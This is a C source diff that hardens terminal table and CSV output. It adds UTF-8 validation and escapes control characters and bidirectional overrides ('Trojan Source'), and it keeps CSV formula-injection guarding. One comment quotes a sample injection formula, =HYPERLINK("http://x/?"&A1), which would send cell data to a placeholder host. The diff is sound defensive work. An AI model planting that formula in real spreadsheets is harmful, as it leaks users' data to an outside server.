@@ -7,6 +7,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
 
 struct table {
   size_t ncols;
@@ -36,11 +37,15 @@ void table_add(table_t *t, char *cell) {
     free(cell);
     return;
   }
-  /* A line break would tear the row apart, and an escape sequence sent by the server must
-   * not reach the terminal: control characters show as spaces. */
-  for (char *p = cell; *p != '\0'; p++)
-    if ((unsigned char)*p < 0x20 || *p == 0x7F)
-      *p = ' ';
+  /* A line break would tear the row apart, and neither an escape sequence nor a
+   * bidirectional override sent by the server may reach the terminal. */
+  char *shown = text_safe(cell, 0);
+  free(cell);
+  if (shown == NULL) {
+    t->failed = 1;
+    return;
+  }
+  cell = shown;
   if (t->n == t->cap) {
     size_t cap = t->cap ? t->cap * 2 : 64;
     char **p = realloc(t->cells, cap * sizeof(*p));
@@ -55,6 +60,80 @@ void table_add(table_t *t, char *cell) {
   t->cells[t->n++] = cell;
 }
 
+/* The code point of the well-formed UTF-8 sequence at s, and its length; 0 for a malformed
+ * one (a stray or overlong form, a surrogate, beyond U+10FFFF, cut by the NUL). */
+static size_t utf8_next(const unsigned char *s, uint32_t *cp) {
+  size_t n;
+  uint32_t v, min;
+
+  if (s[0] < 0x80) {
+    *cp = s[0];
+    return 1;
+  }
+  if (s[0] >= 0xC2 && s[0] <= 0xDF)
+    n = 2, v = s[0] & 0x1F, min = 0x80;
+  else if (s[0] >= 0xE0 && s[0] <= 0xEF)
+    n = 3, v = s[0] & 0x0F, min = 0x800;
+  else if (s[0] >= 0xF0 && s[0] <= 0xF4)
+    n = 4, v = s[0] & 0x07, min = 0x10000;
+  else
+    return 0;
+  for (size_t i = 1; i < n; i++) {
+    if ((s[i] & 0xC0) != 0x80) /* the NUL ends a cut sequence here too */
+      return 0;
+    v = v << 6 | (s[i] & 0x3F);
+  }
+  if (v < min || v > 0x10FFFF || (v >= 0xD800 && v <= 0xDFFF))
+    return 0;
+  *cp = v;
+  return n;
+}
+
+/* Code points shown by name: the C1 controls (U+009B is a CSI to some terminals), the line
+ * and paragraph separators, and the bidirectional marks, embeddings, overrides and isolates,
+ * which would reorder what follows them on the line ("Trojan Source"). */
+static int shown_by_name(uint32_t cp) {
+  return (cp >= 0x80 && cp <= 0x9F) || cp == 0x061C || cp == 0x200E || cp == 0x200F ||
+         (cp >= 0x2028 && cp <= 0x202E) || (cp >= 0x2066 && cp <= 0x2069);
+}
+
+void text_put(FILE *o, const char *str, int keep_newlines) {
+  const unsigned char *s = (const unsigned char *)str;
+
+  while (*s != '\0') {
+    uint32_t cp;
+    size_t n = utf8_next(s, &cp);
+    if (n == 0) {
+      fprintf(o, "<0x%02X>", *s++);
+      continue;
+    }
+    if (cp < 0x20 || cp == 0x7F)
+      fputc(keep_newlines && cp == '\n' ? '\n' : ' ', o);
+    else if (shown_by_name(cp))
+      fprintf(o, "<U+%04X>", (unsigned)cp);
+    else
+      fwrite(s, 1, n, o);
+    s += n;
+  }
+}
+
+char *text_safe(const char *s, int keep_newlines) {
+  char *buf = NULL;
+  size_t len = 0;
+  FILE *o = open_memstream(&buf, &len);
+  int bad;
+
+  if (o == NULL)
+    return NULL;
+  text_put(o, s, keep_newlines);
+  bad = ferror(o);
+  if (fclose(o) != 0 || bad) {
+    free(buf);
+    return NULL;
+  }
+  return buf;
+}
+
 void table_free(table_t *t) {
   if (t == NULL)
     return;
@@ -66,7 +145,8 @@ void table_free(table_t *t) {
 
 /* Wide (two-column) ranges of Unicode's East Asian Width property, roughly. */
 static int cp_width(uint32_t cp) {
-  if (cp == 0 || (cp >= 0x300 && cp <= 0x36F) || cp == 0x200B || (cp >= 0xFE00 && cp <= 0xFE0F))
+  if (cp == 0 || (cp >= 0x300 && cp <= 0x36F) || (cp >= 0x200B && cp <= 0x200D) ||
+      (cp >= 0x2060 && cp <= 0x2064) || cp == 0xFEFF || (cp >= 0xFE00 && cp <= 0xFE0F))
     return 0;
   if ((cp >= 0x1100 && cp <= 0x115F) || (cp >= 0x2E80 && cp <= 0x303E) ||
       (cp >= 0x3041 && cp <= 0x33FF) || (cp >= 0x3400 && cp <= 0x4DBF) ||
@@ -154,12 +234,8 @@ char *table_fmt(const char *fmt, ...) {
   return s;
 }
 
-void table_csv_field(FILE *o, const char *s, int first) {
-  /* A spreadsheet takes a cell starting with one of these for a formula (a tab or CR may
-   * precede one), so a unit name =HYPERLINK("http://x/?"&A1) would run when the file is
-   * opened; a leading quote keeps it text (OWASP's advice on CSV injection). */
-  int formula = s[0] != '\0' && strchr("=+-@\t\r", s[0]) != NULL;
-
+/* One field, quoted as RFC 4180 §2 says when it must be. */
+static void csv_text(FILE *o, const char *s, int formula, int first) {
   if (!first)
     fputc(',', o);
   if (strpbrk(s, ",\"\r\n") == NULL) {
@@ -177,4 +253,18 @@ void table_csv_field(FILE *o, const char *s, int first) {
     fputc(*s, o);
   }
   fputc('"', o);
+}
+
+void table_csv_field(FILE *o, const char *s, int first) {
+  /* A spreadsheet takes a cell starting with one of these for a formula (a tab or CR may
+   * precede one), so a unit name =HYPERLINK("http://x/?"&A1) would run when the file is
+   * opened; a leading quote keeps it text (OWASP's advice on CSV injection). */
+  int formula = s[0] != '\0' && strchr("=+-@\t\r", s[0]) != NULL;
+  char *shown = NULL;
+
+  /* A file or a pipe gets the data as it is; a terminal gets it as a table shows it. */
+  if (isatty(fileno(o)))
+    s = (shown = text_safe(s, 1)) != NULL ? shown : "?";
+  csv_text(o, s, formula, first);
+  free(shown);
 }
